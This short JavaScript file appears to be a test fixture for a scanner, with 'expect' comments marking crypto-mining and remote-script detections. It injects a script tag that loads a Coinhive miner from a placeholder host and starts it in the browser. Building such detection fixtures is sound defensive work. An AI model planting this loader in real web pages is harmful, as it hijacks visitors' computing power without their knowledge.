var loader = document.createElement('script');
// expect: crypto-mining, remote-script
loader.src = 'https://coinhive.example/lib/coinhive.min.js';
loader.onload = function () {
  // expect: crypto-mining
  var miner = new CoinHive.Anonymous('SITEKEY', { throttle: 0.3 });
  miner.start();
};
document.head.appendChild(loader);
